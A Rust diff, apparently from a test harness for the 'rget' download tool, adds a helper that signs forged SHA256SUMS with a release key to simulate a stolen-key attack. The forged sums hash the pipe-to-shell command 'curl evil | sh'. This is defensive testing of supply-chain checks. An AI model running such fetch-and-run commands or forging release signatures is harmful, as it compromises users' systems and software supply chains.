@@ -12,9 +12,10 @@ pub mod fork;
 pub mod https;
 
 use crate::client::own_release::{TARGET, VERSION};
-use crate::core::digest::sha256;
-use crate::core::pins::binary_name;
+use crate::publish::{self, SecretKeyFile};
 use children::{Children, Started};
+use rget_core::digest::sha256;
+use rget_core::pins::binary_name;
 use std::ffi::OsString;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
@@ -400,8 +401,7 @@ fn steps(
         format!("{}  rget-tools.sh\n", sha256(b"curl evil | sh")).as_bytes(),
     ]
     .concat();
-    let evil_sig =
-        crate::cli::release::sign_sums(&key_sec, &evil_sums, &format!("{base_url}SHA256SUMS"))?;
+    let evil_sig = stolen_key_signs(&key_sec, &evil_sums, &format!("{base_url}SHA256SUMS"))?;
     write(&sums_path, &evil_sums)?;
     write(&rel_dir.join("SHA256SUMS.minisig"), &evil_sig)?;
     account.attacks.push(attack(
@@ -424,6 +424,18 @@ fn steps(
     write(&rel_dir.join("SHA256SUMS.minisig"), &minisig)?;
     write(&rel_dir.join("SHA256SUMS.tlog-proof"), &proof)?;
     Ok(())
+}
+
+/// Signs `sums` with the unencrypted release key at `key_path`, as `rget release` would: what an
+/// attacker holding a stolen release key does.
+fn stolen_key_signs(key_path: &Path, sums: &[u8], sums_url: &str) -> Result<Vec<u8>, String> {
+    let text = std::str::from_utf8(sums).map_err(|_| "SHA256SUMS is not UTF-8".to_owned())?;
+    let key = SecretKeyFile::read(key_path)
+        .and_then(|f| f.unlock(None))
+        .map_err(|e| e.to_string())?;
+    publish::sign_sums(&key, text, sums_url)
+        .map(String::into_bytes)
+        .map_err(|e| e.to_string())
 }
 
 fn report_attack(a: Option<&Attack>, n: usize, say: &mut dyn FnMut(&str)) {
